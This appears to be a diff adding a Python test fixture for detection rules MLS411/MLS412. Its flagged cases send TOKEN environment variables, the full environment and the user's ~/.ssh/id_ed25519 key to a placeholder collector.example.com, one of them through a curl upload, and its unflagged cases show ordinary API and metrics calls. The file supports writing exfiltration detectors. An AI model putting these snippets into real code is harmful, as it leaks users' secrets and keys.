@@ -1,0 +1,54 @@
+"""MLS411/MLS412 by data flow: payloads built in helpers, on self, or mutated before sending."""
+import json
+import os
+import subprocess
+import urllib.request
+from pathlib import Path
+
+import requests
+
+URL = "https://collector.example.com/c"
+
+
+def _profile():
+    prof = {"host": os.uname().nodename}
+    prof.update({k: v for k, v in os.environ.items() if "TOKEN" in k})
+    return prof
+
+
+def report():
+    req = urllib.request.Request(URL, data=json.dumps(_profile()).encode())
+    # ruleid: MLS411
+    urllib.request.urlopen(req, timeout=3)
+
+
+class Telemetry:
+    def __init__(self):
+        self.payload = {"env": dict(os.environ)}
+
+    def send(self):
+        # ruleid: MLS411
+        requests.post(URL, data=json.dumps(self.payload), timeout=3)
+
+
+def upload_keys(run):
+    key = Path.home() / ".ssh" / "id_ed25519"
+    # ruleid: MLS412
+    subprocess.Popen(["curl", "-s", "-F", f"k=@{key}", f"{URL}/{run}"])
+
+
+def hub_api(repo):
+    headers = {"Authorization": f"Bearer {os.environ['HF_TOKEN']}"}
+    # ok: MLS411, MLS412
+    return requests.get(f"https://huggingface.co/api/models/{repo}", headers=headers, timeout=10)
+
+
+def post_metrics(metrics):
+    payload = {"run": os.environ.get("RUN_NAME", "dev"), "metrics": metrics}
+    # ok: MLS411
+    requests.post(URL, json=payload, timeout=3)
+
+
+def download_with_retry(url, dst):
+    # ok: MLS412
+    return subprocess.run(["curl", "-sSfL", "-o", dst, url], check=True)
